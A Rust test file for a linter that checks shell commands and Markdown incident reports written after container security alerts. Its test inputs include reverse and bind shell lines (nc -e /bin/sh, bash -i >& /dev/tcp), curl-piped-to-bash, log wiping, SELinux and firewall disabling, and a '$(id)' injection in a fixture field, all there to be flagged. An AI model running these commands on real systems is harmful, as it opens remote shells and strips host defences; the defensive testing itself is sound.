use super::*;

/// The ids found in shell text, in order, without notes.
fn ids(text: &str) -> Vec<&'static str> {
    lint(text, Kind::Shell, None)
        .into_iter()
        .filter(|f| f.severity > Severity::Note)
        .map(|f| f.id)
        .collect()
}

#[track_caller]
fn bad(id: &str, text: &str) {
    let found = ids(text);
    assert!(found.contains(&id), "{text:?} gives {found:?}, not {id}");
}

#[track_caller]
fn good(text: &str) {
    let found = lint(text, Kind::Shell, None);
    assert!(found.is_empty(), "{text:?} gives {found:#?}");
}

/// Good but for what a rule about another thing says: the rule named must be silent.
#[track_caller]
fn not(id: &str, text: &str) {
    let found = ids(text);
    assert!(!found.contains(&id), "{text:?} gives {found:?}");
}

#[test]
fn weakening_the_host_is_blocked() {
    bad("W01", "sudo setenforce 0");
    bad("W01", "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config");
    bad("W02", "aa-complain /usr/bin/nc");
    bad("W02", "docker run --security-opt apparmor=unconfined x");
    bad("W03", "docker run --security-opt seccomp=unconfined x");
    bad("W04", "docker run --privileged x");
    bad("W04", "docker run -v /var/run/docker.sock:/var/run/docker.sock x");
    bad("W05", "iptables -F");
    bad("W05", "iptables -P INPUT ACCEPT");
    bad("W05", "sudo systemctl disable --now firewalld");
    bad("W06", "systemctl stop falco");
    bad("W06", "kubectl -n falco delete daemonset falco");
    bad("W07", "auditctl -D");
    bad("W08", "sysctl -w kernel.randomize_va_space=0");
    bad("W09", "chmod 777 /etc/passwd");
    bad("W09", "usermod -aG docker www-data");
    bad("W10", "setenforce 1");
    good("getenforce");
    good("systemctl status falco");
    good("sudo sysctl -w kernel.kptr_restrict=2");
    good("chmod 0644 /etc/motd");
    good("echo 'setenforce 0'");
    good("grep -r 'SELINUX=disabled' /etc/selinux");
    good("iptables -L -n -v");
}

#[test]
fn a_pipeline_tells_of_its_failures_only_where_it_was_told_to() {
    let pipe = "docker logs x | gzip > /root/x.gz";
    for on in ["set -o pipefail", "set -euo pipefail", "set -e -o pipefail"] {
        not("S09", &format!("{on}; {pipe}"));
    }
    not("S09", &format!("bash -euo pipefail -c '{pipe}'"));
    bad("S09", pipe);
    for off in
        ["set +o pipefail", "bash /opt/no-pipefail", "set -e pipefail", "bash -o posix pipefail"]
    {
        bad("S09", &format!("{off}; {pipe}"));
    }
}

#[test]
fn doors_are_not_opened() {
    bad("L01", "nc -l -p 22 -e /bin/sh");
    bad("L01", "ncat --listen --sh-exec 'id' 4444");
    bad("L02", "nc -e /bin/sh example.com 22");
    bad("L02", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
    bad("L02", "socat TCP:192.0.2.1:1 EXEC:/bin/sh");
    bad("L03", "nc -lvp 4444");
    bad("L03", "python3 -m http.server");
    bad("L04", "curl -s https://example.org/x.sh | sudo bash");
    bad("L04", "bash <(curl -s https://example.org/x.sh)");
    bad("L04", "eval \"$(curl -s https://example.org/x)\"");
    good("nc -zv 192.0.2.1 22");
    good("curl -fsSLO https://example.org/x.sh");
    good("curl -s https://example.org/x.json | jq .");
    good("grep -c 'nc -e' app.log");
}

#[test]
fn what_does_not_exist_is_named() {
    bad("N01", "sudo apparmor-profiles add nc");
    bad("N01", "sudo seccomp --first-accept-filter /etc/x");
    bad("N02", "docker pause --force 0123456789ab");
    bad("N04", "cat /etc/nc.conf");
    bad("N05", "auditd -f /etc/audit/audit.rules");
    bad("N06", "tcpdump -w x.pcap --subdir tcp-");
    bad("N07", "netcat --no-reuse example.com 1");
    bad("N08", "crictl pause 0123456789ab");
    bad("N08", "docker isolate 0123456789ab");
    bad("N09", "tcpdump -z -C 1 -w x");
    let unknown = lint("frobnicate --now", Kind::Shell, None);
    assert_eq!((unknown[0].id, unknown[0].severity), ("N01", Severity::Note));
    good("docker network disconnect bridge 0123456789ab");
    good("kubectl --namespace prod get pods --output wide");
    good("systemctl list-units --failed");
}

#[test]
fn holes_are_found() {
    bad("P01", "docker stop <container-id>");
    bad("P02", "kubectl delete pod YOUR_POD");
    bad("P02", "docker pause @CID@");
    bad("P04", "docker pause $CONTAINER_ID");
    not("P04", "CONTAINER_ID=0123456789ab; docker pause \"$CONTAINER_ID\"");
    good("cat <<'X' > note.txt\nsee <manual>\nX");
    good("echo '<b>'");
}

#[test]
fn evidence_comes_first() {
    bad("E01", "docker stop 0123456789ab");
    bad("E01", "kubectl delete pod web-0");
    bad("E02", "truncate -s 0 /var/log/auth.log");
    bad("E02", "history -c");
    bad("E03", "docker exec 0123456789ab ps");
    bad("E04", "tcpdump -i eth0");
    bad("E05", "docker pause 0123456789ab\nsudo gcore -o core 4242");
    bad("E07", "docker run --rm --name x y\ndocker stop x");
    not("E01", "docker export 0123456789ab > fs.tar\ndocker stop 0123456789ab");
    not("E05", "sudo gcore -o core 4242\ndocker pause 0123456789ab");
    good("docker top 0123456789ab");
    good("kill -STOP 4242");
}

#[test]
fn more_than_the_alert_is_not_hit() {
    bad("B02", "killall nc");
    bad("B02", "pkill -f nc");
    bad("B02", "docker system prune -af");
    bad("B02", "kubectl delete pods --all");
    bad("B02", "rm -rf /var/lib/docker");
    bad("B02", "docker stop $(docker ps -q)");
    bad("B03", "iptables -A INPUT -j DROP");
    bad("B03", "iptables -A OUTPUT -d 10.0.0.0/8 -j DROP");
    bad("B04", "umount /proc");
    bad("B05", "sudo systemctl restart docker");
    bad("B07", "sudo chmod 755 /usr/local/bin/netcat");
    good("sudo iptables --insert DOCKER-USER --destination 198.51.100.7 --jump DROP");
    good("rm -f ./core.4242");
    good("systemctl restart nginx");
    good("chmod 755 /usr/local/bin/our-own-tool");
}

#[test]
fn a_shell_is_a_shell() {
    bad("S01", "if true; then");
    bad("S03", "ip link del x || true");
    bad("S04", "sh ip link del x");
    bad("S05", "sudo nano /etc/hosts");
    bad("S06", "docker\u{a0}pause 0123456789ab");
    bad("S06", "docker pause \u{201c}web\u{201d}");
    bad("S07", "sudo echo 1 > /proc/sys/kernel/x");
    good("sh -c 'ip link show'");
    good("bash ./collect.sh");
    good("echo 1 | sudo tee /sys/x");
}

fn markdown(text: &str) -> Vec<&'static str> {
    lint(text, Kind::Markdown, None).into_iter().map(|f| f.id).collect()
}

#[test]
fn a_command_in_a_sentence_is_judged_when_it_is_advice() {
    assert_eq!(markdown("To go on, run `sudo setenforce 0` on the host."), ["W01"]);
    assert_eq!(markdown("The process was `nc -e /bin/sh example.com 22`."), Vec::<&str>::new());
    assert_eq!(markdown("Never run `sudo setenforce 0`."), Vec::<&str>::new());
}

#[test]
fn an_option_that_runs_a_command_is_no_protection() {
    let check = |text: &str, is_wrong: bool| {
        assert_eq!(markdown(text).contains(&"C05"), is_wrong, "{text}: {:?}", markdown(text));
    };
    check(
        "1.  Configure the pod to only allow `ncat` with a trusted certificate (e.g., the `-c` option).",
        true,
    );
    check("Run `netcat` securely by passing `-e` to it.", true);
    check("Use the `-c` flag of netcat with a valid TLS certificate.", true);
    check("Allow `nc` only when it is started with `--sh-exec`.", true);
    check("Never allow `nc` with `-e`.", false);
    check("The process ran `nc` with the `-e` flag.", false);
    check(
        "Find out who started `nc -e /bin/sh` and save the TLS certificates of the proxy.",
        false,
    );
    check("Use `ncat` with a valid certificate (`--ssl-cert`).", false);
    check("Detect encrypted `ncat` connections that run a shell with `-e`.", false);
    check(
        "`openssl s_client -connect host:443` shows the certificate; `nc -c` is no substitute.",
        false,
    );
    check("An image without `nc`, or one whose `nc` knows no `-e`, is safe.", false);
    check("Build the image with OpenBSD netcat, which is safer: it has no `-e`.", false);
}

#[test]
fn a_report_that_tells_of_a_call_is_not_to_block_what_comes_in_there() {
    let check = |command: &str, advice: &str, is_wrong: bool| {
        let text = format!("The process was `{command}`.\n\n1.  Look at it.\n2.  {advice}\n");
        let found = lint(&text, Kind::Markdown, None);
        let lines: Vec<_> = found.iter().filter(|f| f.id == "D01").map(|f| f.line).collect();
        assert_eq!(lines, if is_wrong { vec![4] } else { vec![] }, "{text} gives {found:?}");
    };
    let advice = "Set up a policy to block incoming connections on port 4444.";
    check("nc -e /bin/sh 198.51.100.7 4444", advice, true);
    check("/usr/bin/ncat 198.51.100.7 4444 -e /bin/sh 4444", advice, true);
    check("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", advice, true);
    check("socat EXEC:sh TCP:198.51.100.7:4444", advice, true);
    check("nc -l -p 4444", advice, false);
    check("nc -zv 198.51.100.7 4444", advice, false);
    check("ssh admin@198.51.100.7", advice, false);
    check("ls -l 4444", advice, false);
    let call = "nc -e /bin/sh 198.51.100.7 4444";
    check(call, "Block incoming connections on port 22 from unknown addresses.", false);
    check(call, "Block outgoing connections to port 4444.", false);
    check(call, "Do not block incoming connections on port 4444: the flow goes out.", false);
}

#[test]
fn snippets_are_judged_in_their_own_language() {
    let check = |id: &str, text: &str| {
        let found = markdown(text);
        assert!(found.contains(&id), "{text} gives {found:?}");
    };
    check(
        "Y01",
        "```yaml\nservices:\n  a:\n    ...\n    b:\n      - c=d\n      - x: \"\\d\"\n```\n",
    );
    check("Y02", "```yaml\n- rule: x\n  desc: y\n  pattern: z\n```\n");
    check("Y03", "```yaml\nservices:\n  web:\n    image: x\n    securityOpt: [a]\n```\n");
    check(
        "Y04",
        "```yaml\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nspec:\n  podSelector: {}\n  policyType: [Ingress]\n```\n",
    );
    check(
        "Y05",
        "```yaml\n- rule: x\n  exceptions:\n    - name: e\n      fields: [proc.name]\n      values: [[nc]]\n  override:\n    exceptions: append\n```\n",
    );
    check("Y06", "```\n/usr/bin/nc {\n  deny network;\n}\n```\n");
    check("Y07", "```c\n#include <sys/seccomp.h>\nint main(void) { return 0; }\n```\n");
    check("Y08", "```bash\n[limits]\ncpu = 1\n```\n");
    check("Y09", "```yaml\nversion: '3'\nservices:\n  web:\n    image: x\n```\n");
    check("Y10", "```ini\n[limits]\ncpu = 1\n```\n");
    check("Y11", "```conf\nallow-delay 1\n```\n");
    check(
        "Y13",
        "```json\n{\"defaultAction\": \"SCMP_ACT_ERRNO\", \"syscalls\": [{\"names\": [\"memfd_created\"], \"action\": \"SCMP_ACT_ALLOW\"}]}\n```\n",
    );
    check(
        "Y14",
        "```nft\ntable inet x {\n chain fwd { type filter hook forward priority 0; drop }\n}\n```\n",
    );
    check("B01", "```\n* {\n deny all,\n}\n```\n");
    check(
        "W04",
        "```yaml\napiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: true\n  containers: []\n```\n",
    );
    check("W11", "```json\n{\"defaultAction\": \"SCMP_ACT_ALLOW\", \"syscalls\": []}\n```\n");
}

#[test]
fn claims_are_weighed() {
    let alert = {
        let mut alert = Alert::default();
        let mut set = |key: &str, value: crate::model::Value| {
            alert.fields.set(key, value);
        };
        set("evt.type", crate::model::Value::String("execve".into()));
        set("proc.cmdline", crate::model::Value::String("nc -e /bin/sh example.com 22".into()));
        set("proc.exepath", crate::model::Value::String("/usr/bin/nc".into()));
        set("container.id", crate::model::Value::String("0123456789ab".into()));
        set("container.start_ts", crate::model::Value::Number("1728144488131238330".into()));
        set("evt.time", crate::model::Value::Number("1728144488850053630".into()));
        alert
    };
    let check = |id: &str, text: &str| {
        let found: Vec<_> =
            lint(text, Kind::Markdown, Some(&alert)).into_iter().map(|f| f.id).collect();
        assert!(found.contains(&id), "{text} gives {found:?}");
    };
    check("T01", "Disable the enforcement mode for SELinux.");
    check("C01", "The login UID of -1 indicates an elevated user account.");
    check("C02", "The container has been running for an extended period.");
    check("C03", "The attacker has enabled remote code execution.");
    check("C04", "The severity is high because of its priority.");
    check("C05", "Set up a web application firewall (WAF).");
    check("D01", "Block incoming connections on port 22.");
    check("P05", "```bash\ndocker pause web\n```");
    check("P06", "```bash\nsudo sha256sum /usr/bin/netcat\n```");
    check("P06", "```bash\ndocker inspect ba9876543210\n```");
    check("B09", "```bash\niptables -I OUTPUT -d 198.51.100.7 -j DROP\n```");
    let fine = "Never disable SELinux.\n\nThe process was started (`execve`).\n\n```bash\ndocker inspect 0123456789ab\n```\n";
    assert_eq!(lint(fine, Kind::Markdown, Some(&alert)), []);
}

#[test]
fn every_id_in_the_code_stands_in_the_table() {
    let n = rules::all().count();
    assert_eq!(n, 77);
    for (id, rule) in rules::all() {
        assert!(!rule.message.is_empty() || id == "C01", "{id} says nothing");
    }
}

#[test]
fn outputs_are_what_they_say() {
    let files = [output::Judged {
        file: "a b.md".into(),
        findings: lint("sudo setenforce 0", Kind::Shell, None),
    }];
    let parsed: serde_json::Value = serde_json::from_str(&output::json(&files)).unwrap();
    assert_eq!(parsed[0]["id"], "W01");
    assert_eq!(output::json(&[]), "[]\n");
    let sarif: serde_json::Value = serde_json::from_str(&output::sarif(&files)).unwrap();
    assert_eq!(
        sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "a%20b.md"
    );
    assert!(output::github(&files).starts_with("::error file=a b.md,line=1,title=W01::"));
    assert!(output::text(&files).contains("a b.md:1: block W01"));
}

proptest::proptest! {
    #[test]
    fn no_text_ends_it(text in "[ -~\n`$(){}<>|&;'\"]{0,200}") {
        for kind in [Kind::Markdown, Kind::Shell, Kind::Snippet] {
            lint(&text, kind, None);
        }
    }
}

/// One case of `fixtures/lint/cases.txt`.
struct Case {
    id: String,
    /// `bad`, `note` or `good`.
    verdict: String,
    kind: String,
    alert: Option<Alert>,
    text: String,
}

fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let text = include_str!("../../fixtures/lint/cases.txt");
    for section in text.split("\n=== ").skip(1) {
        let (head, body) = section.split_once('\n').unwrap();
        let words: Vec<&str> = head.split(' ').collect();
        let case = |text: &str| Case {
            id: words[0].into(),
            verdict: words[1].into(),
            kind: words[2].into(),
            alert: words.get(3).map(|name| alert(name)),
            text: text.into(),
        };
        if words[2] == "sh" {
            cases.extend(body.lines().filter(|line| !line.is_empty()).map(case));
        } else {
            cases.push(case(body));
        }
    }
    cases
}

/// Alerts of our own making: what they say is what the cases go by.
fn alert(name: &str) -> Alert {
    let json = match name {
        "nc" => {
            r#"{"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.exepath":"/usr/bin/nc","container.id":"0123456789ab","container.name":"modest_hopper"}"#
        }
        "memfd" => {
            r#"{"evt.type":"execve","proc.name":"3","proc.pid":4242,"evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.exepath":"memfd:x","container.id":"0123456789ab","container.name":"modest_hopper","container.start_ts":1728144488131238330,"evt.time":1728144488850053630}"#
        }
        "shell" => {
            r#"{"evt.type":"execve","proc.name":"sh","proc.cmdline":"sh -c ip link del calico_tmp_A || true","container.id":"0123456789ab"}"#
        }
        "pod" => {
            r#"{"evt.type":"connect","proc.name":"curl","proc.pid":4242,"fd.rip":"198.51.100.7","fd.rport":443,"container.id":"0123456789ab","container.name":"web$(id)","k8s.ns.name":"shop","k8s.pod.name":"web-0"}"#
        }
        "platform" => {
            r#"{"evt.type":"execve","proc.name":"sh","container.id":"0123456789ab","k8s.ns.name":"kube-system","k8s.pod.name":"cni-1"}"#
        }
        "server" => r#"{"evt.type":"accept4","proc.name":"nginx","container.id":"0123456789ab"}"#,
        other => panic!("no alert {other}"),
    };
    let map: serde_json::Map<String, serde_json::Value> = serde_json::from_str(json).unwrap();
    let mut alert = Alert::default();
    for (key, value) in map {
        let value = match value {
            serde_json::Value::Number(number) => {
                crate::model::Value::Number(number.to_string().into())
            }
            other => crate::model::Value::String(other.as_str().unwrap().into()),
        };
        alert.fields.set(&key, value);
    }
    alert
}

#[test]
fn every_rule_speaks_where_it_should_and_is_silent_where_not() {
    let mut wrong = Vec::new();
    let (mut bad, mut good) =
        (std::collections::BTreeMap::new(), std::collections::BTreeMap::new());
    for Case { id, verdict, kind, alert, text } in cases() {
        let is = match kind.as_str() {
            "sh" | "script" => Kind::Shell,
            "md" => Kind::Markdown,
            _ => Kind::Snippet,
        };
        let fence = if kind == "conf" { "```conf\n" } else { "" };
        let (is, text) = if fence.is_empty() {
            (is, text)
        } else {
            (Kind::Markdown, format!("{fence}{text}\n```\n"))
        };
        let found = lint(&text, is, alert.as_ref());
        let said = found.iter().find(|finding| finding.id == id);
        let ids: Vec<_> = found.iter().map(|finding| finding.id).collect();
        if verdict == "note" {
            if said.is_none_or(|finding| finding.severity != Severity::Note)
                || found.iter().any(|finding| finding.severity > Severity::Note)
            {
                wrong.push(format!("{id} should be no more than a note, {ids:?}: {text}"));
            }
        } else if verdict == "bad" {
            *bad.entry(id.clone()).or_insert(0) += 1;
            match said {
                None => wrong.push(format!("{id} is silent, {ids:?}: {text}")),
                Some(finding) if finding.severity != rules::rule(&id).severity => {
                    wrong.push(format!("{id} is {}: {text}", finding.severity.name()));
                }
                Some(_) => {}
            }
        } else {
            *good.entry(id.clone()).or_insert(0) += 1;
            let strict = is == Kind::Shell;
            if said.is_some()
                || strict
                    && found.iter().any(|finding| finding.severity > Severity::Note)
                    && id != "S02"
                    && id != "E06"
            {
                wrong.push(format!("{id} should be silent, {ids:?}: {text}"));
            }
        }
    }
    for (id, _) in rules::all() {
        if !bad.contains_key(id) || !good.contains_key(id) {
            wrong.push(format!("{id} has no case"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
}

/// What is said of a report as a whole.
fn of_whole(text: &str, alert: &Alert) -> Vec<(&'static str, Severity)> {
    let found = lint(text, Kind::Markdown, Some(alert));
    found.iter().filter(|f| f.line == 1).map(|f| (f.id, f.severity)).collect()
}

#[test]
fn a_report_that_never_thinks_of_a_drill_is_told_so() {
    let mut alert = alert("nc");
    alert.rule = Some("Netcat Remote Code Execution in Container".into());
    alert.fields.set("proc.pname", crate::model::Value::String("event-generator".into()));
    let report = |cause: &str, step: &str| {
        format!(
            "# Report\n\n## Summary\n\nThe rule Netcat Remote Code Execution in Container fired.\n\n\
             ## Details\n\nThe container is 0123456789ab.\n\n## Causes\n\n{cause}\n\n## Steps\n\n```sh\n{step}\n```\n"
        )
    };
    let asks = "It may be a drill of the event-generator; ask who ran one.";
    let is_sure = "A program in the container opened a connection.";
    let looks = "docker inspect 0123456789ab";
    let acts = "docker pause 0123456789ab";
    assert_eq!(of_whole(&report(asks, looks), &alert), []);
    assert_eq!(of_whole(&report(is_sure, looks), &alert), [("C03", Severity::Error)]);
    assert_eq!(
        of_whole(&report(is_sure, acts), &alert),
        [("C03", Severity::Error), ("P05", Severity::Note)]
    );
    let untied =
        report(is_sure, acts).replace("Netcat Remote Code Execution in Container", "in question");
    assert!(of_whole(&untied, &alert).contains(&("P05", Severity::Note)));
    // A remark is no report.
    assert_eq!(of_whole("Pause it.\n", &alert), []);
}
